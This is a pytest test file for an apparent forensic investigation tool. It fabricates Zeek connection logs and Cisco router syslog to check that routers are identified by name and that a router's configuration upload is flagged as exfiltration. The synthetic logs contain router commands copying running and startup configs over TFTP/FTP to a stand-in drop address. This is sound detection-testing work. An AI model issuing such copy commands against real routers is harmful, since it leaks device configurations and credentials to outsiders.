"""Network devices known only by their syslog name get their addresses from what they log and what the sensors
saw at that moment (investigate/devices.py), on Zeek conn.log and Cisco syslog written here: two core routers
from the admin's SSH logins, the WAN router (whose logins the sensor does not see) from the configuration it
copies out by TFTP/FTP. Its upload then ranks under its name, with its syslog, not under its address; a
denied packet the router logs names no device."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from breachscope.engines.duckdb_case import open_case
from breachscope.entities.hosts import address_names
from breachscope.investigate.context import DEFAULT_INTERNAL, Context
from breachscope.investigate.devices import device_addresses
from breachscope.investigate.pipeline import InvestigateRequest, find_incident
from tests.conftest import run_ingest
from tests.test_investigate_exfil_channels import CONN, DAY, SITES, T0, Logs, _log

ADMIN = "10.0.9.5"
CORES = {"edge-a": "10.0.255.1", "edge-b": "10.0.255.2"}
WAN, WAN_IP, DROP = "wan-x", "10.0.255.9", "192.0.2.66"
SCANNER, VICTIM = "10.0.3.7", "10.0.4.4"  # a denied packet the WAN router logs: neither is the router


def _conn(logs: Logs, ts: float, src: str, dst: str, port: int, up: int, down: int, proto: str = "tcp") -> None:
    logs.conn.append((f"{ts:.6f}", logs.uid(), src, logs.rng.randrange(49152, 65536), dst, port, proto, "-", "2.0",
                      up, down, "SF"))


def _line(ts: float, device: str, seq: int, text: str) -> str:
    t = datetime.fromtimestamp(ts, UTC)
    return f"{t.isoformat()} {device} {seq}: {device}: {t:%b %d %H:%M:%S}.{t.microsecond // 1000:03d} UTC: {text}\n"


def evidence(folder: Path) -> list[Path]:
    """Fourteen days: workstations browsing, the admin's SSH logins to the core routers (seen by the sensor and
    logged by the routers), the WAN router's NTP; on day 10 the WAN router copies its configuration out and
    sends 30 MB to the same address."""
    logs, lines, seq = Logs(5), [], 100
    rng = logs.rng
    for day in range(14):
        for ws in (f"10.0.3.{i}" for i in range(10, 20)):
            for _ in range(4):
                ip, _name = rng.choice(SITES)
                _conn(logs, T0 + day * DAY + rng.uniform(0, DAY), ws, ip, 443, rng.randrange(800, 30_000),
                      rng.randrange(5_000, 400_000))
        _conn(logs, T0 + day * DAY + 600, WAN_IP, "198.18.0.1", 123, 90, 90, "udp")
        if day % 3 == 0:
            for name, ip in CORES.items():
                t = T0 + day * DAY + rng.uniform(8, 17) * 3600
                _conn(logs, t, ADMIN, ip, 22, 4_000, 9_000)
                seq += 1
                lines.append(_line(t + 0.2, name, seq, f"%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: ops1] "
                                   f"[Source: {ADMIN}] [localport: 22] at {datetime.fromtimestamp(t, UTC):%H:%M:%S} "
                                   "UTC"))
    t = T0 + 4 * DAY + 5000.0
    _conn(logs, t, SCANNER, VICTIM, 22, 0, 0)
    lines.append(_line(t + 0.1, WAN, 50, f"%SEC-6-IPACCESSLOGP: list MGMT-IN denied tcp {SCANNER}(5555) -> "
                                         f"{VICTIM}(22), 1 packet"))
    t = T0 + 10 * DAY + 3600.0
    for i, url in enumerate((f"copy running-config tftp://{DROP}/wr1.cfg", f"copy startup-config ftp://{DROP}/s.cfg")):
        lines.append(_line(t + 60 * i, WAN, 60 + i, f"%HA_EM-6-LOG: CLI_LOG: {url}"))
        _conn(logs, t + 60 * i + 0.5, WAN_IP, DROP, (69, 21)[i], 48_000, 1_200, ("udp", "tcp")[i])
    for i in range(2):
        _conn(logs, t + 600 + 300 * i, WAN_IP, DROP, 443, 15_000_000, 40_000)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "conn.log").write_text(_log("conn", CONN, logs.conn))
    (folder / "routers.log").write_text("".join(sorted(lines)))
    return [folder / "conn.log", folder / "routers.log"]


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("devices")
    run_ingest(evidence(tmp / "logs"), tmp / "case")
    return tmp / "case"


def test_the_devices_addresses_come_from_their_logins_and_transfers(case: Path) -> None:
    with open_case(case) as c:
        ctx = Context.of(c, internal_networks=DEFAULT_INTERNAL)
        ctx.artifacts = c
        ctx.names = address_names(c)
        assert device_addresses(ctx) == {**{ip: name for name, ip in CORES.items()}, WAN_IP: WAN}


def test_the_routers_upload_ranks_under_its_name(case: Path) -> None:
    inc = find_incident(InvestigateRequest(case))[0]
    moves = [m for m in inc.data_movements if m.kind == "exfiltration"]
    assert [(m.src, m.src_ip, m.dst_ip) for m in moves] == [(WAN, WAN_IP, DROP)]
    names = {h.name for h in inc.hosts}
    assert WAN in names and WAN_IP not in names
